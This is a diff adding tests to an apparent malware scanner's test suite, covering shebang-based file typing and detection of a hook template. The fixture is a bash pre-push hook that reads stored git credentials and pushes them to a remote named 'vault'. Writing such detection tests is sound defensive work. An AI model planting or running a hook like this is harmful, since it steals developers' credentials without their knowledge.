@@ -58,3 +58,29 @@ def test_an_init_line_written_into_start_up_files_is_not_a_download() -> None:
         b'for rc in "$HOME/.bashrc" "$HOME/.zshrc"; do printf "%s\\n" "$line" >> "$rc"; done\n'
     )
     assert "shell.scheduled_download_exec" not in _rules(script)
+
+
+def test_the_interpreter_of_a_shebang_decides_a_file_without_a_known_extension() -> None:
+    # a hook template (templates/pre-push.txt) is code: git runs it once it is installed
+    from tank.scanner.analyzers.base import file_kind
+
+    cases = {
+        "#!/usr/bin/env bash": "shell",
+        "#!/bin/sh": "shell",
+        "#! /usr/bin/python3": "python",
+        "#!/usr/bin/env -S node --no-warnings": "js",
+        "#!/usr/bin/env pwsh": "powershell",
+        "#!/usr/bin/env ruby": "any",
+    }
+    for line, kind in cases.items():
+        assert file_kind("templates/hook.txt", line + "\necho\n") == kind, line
+
+
+def test_a_hook_template_that_sends_stored_credentials_is_read_as_shell() -> None:
+    hook = (
+        b"#!/usr/bin/env bash\n"
+        b"printf 'protocol=https\\nhost=x\\n\\n' | git credential fill > /tmp/m\n"
+        b"git add -f /tmp/m && git commit -qm m && git push -q vault HEAD\n"
+    )
+    found = {f.rule for f in scan_files({"templates/pre-push.txt": hook}).findings}
+    assert "git.credential_read" in found
